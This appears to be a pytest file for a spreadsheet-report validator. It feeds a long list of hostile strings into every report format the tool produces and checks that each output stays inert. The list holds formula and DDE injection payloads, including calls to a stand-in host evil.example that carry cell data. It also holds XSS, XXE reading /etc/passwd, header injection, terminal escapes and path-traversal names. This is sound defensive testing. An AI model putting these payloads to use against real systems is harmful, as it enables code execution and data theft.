"""A stranger's text in every field of every output: nothing of it runs, nothing breaks out, no report is lost.

Each row of the table is one hostile text. It stands in all fields at once: the office's name, code and parent, file,
sheet, cell, explanation, every line of the cover, sender, title; and every output is made from that.
"""

import csv
import io
import json
import re
import zipfile
from base64 import b64encode
from dataclasses import replace
from datetime import datetime
from functools import cache
from hashlib import sha256
from html.parser import HTMLParser
from urllib.parse import urlsplit
from xml.etree import ElementTree as ET

import openpyxl
import polars as pl
import pytest

from tests.forms import book, filled, form_of, labels_of, with_texts
from xlvalidate.cells import Cell
from xlvalidate.checking.call_first import DoubtfulSums
from xlvalidate.checking.check import Checked, check
from xlvalidate.checking.rollup import RollUp, TakenFrom, Unit, counted, roll_up
from xlvalidate.checking.sum_findings import summed
from xlvalidate.desk.printed_form import printed
from xlvalidate.editions.catalogue import built_in_edition
from xlvalidate.editions.edition import Edition
from xlvalidate.findings import Finding, Origin, Place, Severity
from xlvalidate.identity import Period
from xlvalidate.ooxml.book import Value, ValueKind
from xlvalidate.ooxml.package import open_package
from xlvalidate.ooxml.workbook_xml import open_workbook
from xlvalidate.reading.read import submission
from xlvalidate.reading.submission import Submission, SubmittedFile
from xlvalidate.reports.csv_table import table
from xlvalidate.reports.html_page import page
from xlvalidate.reports.json_lines import line
from xlvalidate.reports.junit import junit
from xlvalidate.reports.marked_copy import marked
from xlvalidate.reports.parquet import balances, packed, readings
from xlvalidate.reports.report_data import (
    Awaited,
    Branch,
    Collected,
    Earlier,
    OfficeResult,
    Other,
    Repeated,
    UnansweredMail,
)
from xlvalidate.reports.rule_tally import rule_counts
from xlvalidate.reports.safe_text import csv_text, plain_number, relative_link, sheet_link, visible
from xlvalidate.reports.summary_workbook import summary
from xlvalidate.reports.sums_text import line as sums_line
from xlvalidate.reports.sums_text import render as render_sums
from xlvalidate.reports.sums_text import tree_line
from xlvalidate.reports.terminal import render
from xlvalidate.roster import Office as Listed
from xlvalidate.roster import Roster

HOSTILE = (
    # formulas
    "=1+1",
    "=cmd|'/c calc'!A0",
    "+cmd|' /c calc'!A0",
    "-2+3+cmd|' /c calc'!A0",
    "@SUM(1+1)*cmd|' /c calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=WEBSERVICE("http://evil.example/")',
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    '"=1+1',
    "=-1",
    "--1",
    # cells of a CSV
    'a","=1+1","b',
    "a;=1+1;b",
    "a\t=1+1",
    "a\r\n=1+1,b",
    "a|=1+1",
    '";=1+1;"',
    # HTML
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    '"><img src=http://evil.example/x onerror=window.pwned=1>',
    "' onmouseover='window.pwned=1",
    '" autofocus onfocus="window.pwned=1',
    "<svg/onload=window.pwned=1>",
    "javascript:window.pwned=1",
    "JaVaScRiPt:window.pwned=1//",
    "data:text/html,<script>window.pwned=1</script>",
    "//evil.example/x.xlsx",
    "\\\\evil.example\\share\\x.xlsx",
    "<base href=http://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "<form action=http://evil.example/><input name=a>",
    "<!--",
    "--><b>",
    "&lt;b&gt;&#60;script&#62;",
    "{{ 7*7 }}{% raw %}",
    "{0.__class__}%s%n",
    # CSS, XML
    "x{background:url(http://evil.example/)}",
    "</style>*{display:none}",
    "]]><b>",
    "<![CDATA[x]]>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "_x0000__x0041__x202E_",
    "<r><t>a</t></r>",
    "<r></is></c><c r=\"A1\"><f>1+1</f></c><c t=\"inlineStr\"><is></r>",
    # headers, controls, terminals
    "x\r\nBcc: all@example.com",
    "\x00",
    "a\x00b",
    "\x01\x02\x07\x08\x0b\x0c\x0e\x1f\x7f",
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\x",
    "\x9b31m\x85\x90",
    # directions, halves of characters, what no encoding has
    "safe‮xslx.exe",
    "⁦a⁩‎‏؜",
    "a​‌‍﻿b",
    "\u2028\u2029",
    "\ud800",
    "\udc80x\udfff",
    "\ufffe\uffff\ufdd0",
    "\U0001ffff\U000e0041",
    "𠮷😀é",
    # sizes and names
    "长" * 40_000,
    "<b>" * 13_000,
    "=" * 33_000,
    "CON",
    "NUL.xlsx",
    "C:\\Windows\\x.xlsx",
    "../../etc/passwd",
    "a/../../x",
    "x:y?z*|<>\"",
    "name. ",
    " ",
    "[U+0000]",
)  # fmt: skip
OTHER_SHARE = "t3 person total\nnew 30 30\ngranted 11 11\nother_rest 19 19\nhandled 30 30"
MADE = datetime(2026, 1, 30, 20, 15)
EDITION = "ogi-2021"


@cache
def edition() -> Edition:
    return built_in_edition(EDITION)


@cache
def blank_form() -> bytes:
    return form_of(edition())


def judged(text: str) -> Checked:
    """A form with the text in its cells, its cover and its explanation; the findings' sheet named by it too."""
    cells = printed(edition()).cells
    made = book(edition(), OTHER_SHARE, cover={line.code: text for line in edition().cover.fields})
    typed = {cells[code]: Value(ValueKind.TEXT, text) for code in ("t2_fee_amount", "t4_review_upheld")}
    made = replace(made, values=labels_of(edition()) | dict(made.values) | typed)
    read = submission(SubmittedFile(file=text, sha256="0" * 64), made, edition(), printed(edition()))
    checked = check([with_texts(read, {"S-OTHER-SHARE.total": text})])[0]
    return replace(checked, findings=tuple(elsewhere(finding, text) for finding in checked.findings))


def elsewhere(finding: Finding, sheet: str) -> Finding:
    places = (
        Place(place.code, place.cell and Cell(sheet, place.cell.row, place.cell.column), place.text)
        for place in finding.places
    )
    return replace(finding, places=tuple(places))


def rolled(text: str, own: Submission) -> RollUp:
    """The sum of two offices named by the text, which is not what the office above them reported."""
    units = (Listed(code=f"{text}{number}", name=text, parent=text) for number in (1, 2))
    roster = Roster((Listed(code=text, name=text), *units))
    low = filled(edition(), "t3 person\nnew 9")
    return roll_up(
        edition(), roster, counted(roster, lambda code: ""), lambda code: own if code == text else low, [text]
    )[text]


def with_everywhere(text: str) -> Collected:
    checked = judged(text)
    assert checked.submission is not None
    sums = rolled(text, checked.submission)
    checked = replace(checked, findings=(*checked.findings, *summed(sums)))
    missing = tuple(Unit(text, text, TakenFrom.NOTHING, "missing") for _ in range(60))
    file = Finding(id="x", origin=Origin.FILE, severity=Severity.MUST, why="broken-zip", facts=(("detail", text),))
    calls = DoubtfulSums()
    calls.add(text, checked)
    office = OfficeResult(
        code=text, name=text, parent=text, parent_code=text, mail=text,
        level=text, sender=text, verdict=checked.verdict, file=text, sha256="0" * 64,
        received=MADE, checked=checked, marked_copy=text, earlier=(Earlier(file=text, sha256=text, received=MADE),),
    )  # fmt: skip
    return Collected(
        title=text, period=text, made=MADE, editions=(text,), offices=(office,), rules=rule_counts([checked]),
        repeated=(Repeated(code=text, name=text, file=text, sha256=text, of=text, sender=text),),
        others=(Other(file=text, sha256="0" * 64, finding=file, sender=text, offices=(text,)),),
        missing=(Awaited(code=text, name=text, parent=text, level=text, mail=text, sent=((text, "pdf"),)),),
        calls=calls.ranked(), forms=(edition(),),
        unanswered=(UnansweredMail(offices=((text, text),), sender=text, received=MADE, files=((text, "pdf"),)),),
        tree=(
            Branch(code=text, name=text, level=text, depth=0, verdict=checked.verdict, rolled=sums, units=sums.units,
                   below={"missing": 1}),
            Branch(code=text, name=text, level=text, depth=1, verdict=None, vertical=True, units=missing),
        ),
    )  # fmt: skip


def shown(character: str) -> bool:
    """Has it a look of its own? Nothing else may reach a reader's eye or terminal."""
    return character.isprintable() or character in "\n\u3000\xa0" or visible(character) == character


class Page(HTMLParser):
    def __init__(self, written: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.texts: dict[str, list[str]] = {}
        self.inside = ""
        self.oddities: list[str] = []
        self.feed(written)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.inside = tag
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_endtag(self, tag):
        self.inside = ""

    def handle_data(self, data):
        self.texts.setdefault(self.inside, []).append(data)

    def handle_comment(self, data):
        self.oddities.append(data)

    unknown_decl = handle_pi = handle_comment


@cache
def harmless() -> Page:
    return Page(page(with_everywhere("甲"), "zh_CN"))


def digest(content: str) -> str:
    return "'sha256-" + b64encode(sha256(content.encode()).digest()).decode() + "'"


def page_is_safe(collected: Collected, text: str) -> None:
    written = page(collected, "zh_CN")
    found = Page(written.encode().decode())
    assert all(map(shown, written)), "something unseen"
    assert set(found.tags) <= set(harmless().tags)
    assert found.oddities == []
    names = {(tag, name) for tag, name, _ in harmless().attributes}
    assert {(tag, name) for tag, name, _ in found.attributes} <= names
    for tag in ("script", "style", "meta", "title", "base", "form"):
        assert found.tags.count(tag) == harmless().tags.count(tag)
    policy = next(value for _, name, value in found.attributes if name == "content" and "default-src" in value)
    assert digest("".join(found.texts["script"])) in policy
    assert digest("".join(found.texts["style"])) in policy
    for _, name, value in found.attributes:
        if name in ("href", "src", "action"):
            assert value.startswith("#") or (urlsplit(value).scheme, urlsplit(value).netloc) == ("", "")
            assert not value.startswith(("/", "\\"))
    assert "".join(found.texts["title"]) == visible(text)


def workbook_is_safe(data: bytes, text: str) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    for name, part in parts.items():
        ET.fromstring(part)
        assert b"<f>" not in part and b"<f " not in part
        if name.endswith(".rels"):
            external = [one for one in ET.fromstring(part) if one.get("TargetMode") == "External"]
            assert all(not urlsplit(one.get("Target", "")).scheme for one in external)
            assert all(not one.get("Target", "").startswith(("/", "\\")) for one in external)
    opened = openpyxl.load_workbook(io.BytesIO(data))
    assert opened.sheetnames == [
        "首页", "汇总", "先联系", "逐级汇总", "汇总差异", "明细", "未报", "来信无表", "重复", "规则",
    ]  # fmt: skip
    cells = [cell for sheet in opened for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr", "n", "d"}
    assert all(
        len(cell.value) < 32_767 and all(map(shown, cell.value)) for cell in cells if isinstance(cell.value, str)
    )
    assert opened["明细"].max_row > 2 and opened["汇总差异"].max_row > 2


LIVE = re.compile(r"(?:^|[;,|\t])[\s\"]*[=+\-@＝＋－＠\t\r]")


def csv_is_safe(data: bytes) -> None:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len({len(row) for row in rows}) == 1 and len(rows) > 4
    for cell in (cell for row in rows for cell in row):
        assert plain_number(cell) or not LIVE.search(cell), cell[:60]
        assert all(map(shown, cell)) and "\n" not in cell


def json_is_safe(written: str) -> None:
    written.encode()
    assert json.loads(written)["findings"]
    assert not any(ord(character) < 32 for character in written)


def junit_is_safe(data: bytes) -> None:
    # But for the title the library would write the same: no sign that it escapes is left as it is.
    by_library = ET.tostring(ET.fromstring(data), encoding="utf-8", xml_declaration=True)
    assert by_library.split(b"\n", 2)[2] == data.split(b"\n", 2)[2]
    root = ET.fromstring(data)
    assert root.tag == "testsuites" and len(root) == 3
    assert {one.tag for one in root.iter()} <= {
        "testsuites", "testsuite", "testcase", "failure", "error", "skipped", "system-out",
    }  # fmt: skip
    said = [value for one in root.iter() for value in (*one.attrib.values(), one.text or "")]
    assert all(shown(character) for value in said for character in value)


def text_is_safe(written: str) -> None:
    written.encode()
    assert all(character.isprintable() or character == "\n" for character in written)
    assert all(line.startswith("  ") for line in written.split("\n")[1:])


def sums_are_safe(collected: Collected) -> None:
    for branch in collected.tree or ():
        written = tree_line(branch)
        written.encode()
        assert json.loads(written)["units"] and not any(ord(character) < 32 for character in written)
    branch = (collected.tree or ())[0]
    assert branch.rolled is not None and branch.rolled.differing
    text_is_safe(render_sums(branch.rolled, "en", branch.name, collected.offices[0].checked))
    written = sums_line(branch.rolled, Period(2025), "zh_CN", branch.name, collected.offices[0].checked)
    written.encode()
    assert json.loads(written)["differences"] and not any(ord(character) < 32 for character in written)


def marked_copy_is_safe(data: bytes | None) -> None:
    assert data is not None
    with zipfile.ZipFile(io.BytesIO(data)) as package, zipfile.ZipFile(io.BytesIO(blank_form())) as before:
        parts = {name: package.read(name) for name in package.namelist()}
        changed = {name: part for name, part in parts.items() if part != before.read(name)}
        for name, part in changed.items():
            ET.fromstring(part)
            assert not name.endswith(".rels")
            assert part.count(b"<f>") == before.read(name).count(b"<f>")
    assert "审核结果" in open_workbook(open_package(data)).sheet_parts
    assert any(b"S-OTHER-SHARE" in part for part in changed.values())


def parquet_is_safe(collected: Collected, text: str) -> None:
    back = pl.read_parquet(packed(readings(collected.offices)))
    told = back.filter(pl.col("indicator") == "t4_review_upheld")
    typed = text if text.strip() else ""  # nothing but spaces is a blank cell
    assert told["text"].to_list() == [typed.encode("utf-8", "backslashreplace").decode()]
    assert told["office_name"].to_list() == [visible(text)]
    assert pl.read_parquet(packed(balances(collected.offices))).height == len(collected.offices[0].checked.outcomes)


def test_the_table_is_long_enough():
    assert len(HOSTILE) == len(set(HOSTILE)) >= 60


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text)[1:41])
def test_a_hostile_text_everywhere_harms_no_output(text):
    collected = with_everywhere(text)
    checked = collected.offices[0].checked
    assert checked is not None
    page_is_safe(collected, text)
    workbook_is_safe(summary(collected, "zh_CN"), text)
    csv_is_safe(table(collected, "zh_CN"))
    json_is_safe(line(checked, "zh_CN"))
    junit_is_safe(junit(collected, "en"))
    text_is_safe(render(checked, "zh_CN"))
    sums_are_safe(collected)
    marked_copy_is_safe(marked(blank_form(), checked, "zh_CN"))
    parquet_is_safe(collected, text)


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("-8", "-8"),
        ("-0.5", "-0.5"),
        ("12", "12"),
        ("-8+1", "'-8+1"),
        ("=1", "'=1"),
        (" =1", "' =1"),
        ("＝1", "'＝1"),
        ("a;=1", "a;'=1"),
        ("3 + 0 ≠ 2 + 0", "3 + 0 ≠ 2 + 0"),
        ("甲-乙", "甲-乙"),
        ("a\nb", "a b"),
    ],
)
def test_csv_keeps_numbers_and_disarms_formulas(text, cell):
    assert csv_text(text) == cell


@pytest.mark.parametrize(
    ("path", "link", "in_a_sheet"),
    [
        ("marked/城关 区.xlsx", "marked/%E5%9F%8E%E5%85%B3%20%E5%8C%BA.xlsx", "marked/城关%20区.xlsx"),
        ("a#b?c.xlsx", "a%23b%3Fc.xlsx", "a%23b%3Fc.xlsx"),
        ("/etc/passwd", "", ""),
        ("\\\\host\\x", "", ""),
        ("C:x", "", ""),
        ("javascript:x", "", ""),
        ("a\u202eb", "a%E2%80%AEb", ""),
        (None, "", ""),
    ],
)
def test_links_lead_only_to_files_beside_the_report(path, link, in_a_sheet):
    assert (relative_link(path), sheet_link(path)) == (link, in_a_sheet)


@pytest.mark.parametrize("language", ["zh_CN", "en"])
def test_the_same_collection_gives_the_same_bytes(language):
    collected = with_everywhere("城关区")
    assert summary(collected, language) == summary(collected, language)
    assert page(collected, language) == page(collected, language)
